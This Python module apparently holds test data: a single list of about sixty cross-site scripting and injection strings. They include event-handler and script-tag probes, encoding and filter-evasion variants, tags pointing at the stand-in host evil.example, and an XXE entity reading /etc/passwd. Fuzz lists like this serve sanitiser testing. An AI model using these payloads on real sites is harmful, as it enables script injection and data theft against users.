"""Sixty ways to make a browser run what stands in a name, a title or a note."""

# ruff: noqa: E501  # an attack is read on one line

SCRIPTS = [
    "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "javascript:alert(1)", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="',
    "</style><script>alert(1)</script>", "<!--", "-->", "]]>", "<![endif]-->", "</title><script>alert(1)</script>", "<script>alert(1)</script>",
    "&lt;script&gt;", "&#60;script&#62;", "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil.example>", "<body onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext></form><form>", "<x/onclick=alert(1)>", "\"'><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=`x`onerror=alert(1)>", "</textarea><script>alert(1)</script>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>", "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>",
    "expression(alert(1))", "url(javascript:alert(1))", "\\u003cscript\\u003e", "%3Cscript%3E", "+ADw-script+AD4-", "<\x00script>", "<scr<script>ipt>",
    "onerror=alert(1)//", "`${alert(1)}`", "';alert(1)//", "\");alert(1)//", "<table background=javascript:alert(1)>", "<div style=width:expression(alert(1))>",
    "<style>@import '//evil.example'</style>", "<xml id=x>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<a href='data:text/html,x'>",
    "<p style='background:url(//evil.example)'>", "<td width='100%' onclick=alert(1)>", "<button formaction=javascript:alert(1)>", "<isindex action=j>",
    "<bgsound src=//evil.example>", "<layer src=//evil.example>", "<frameset onload=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]  # fmt: skip
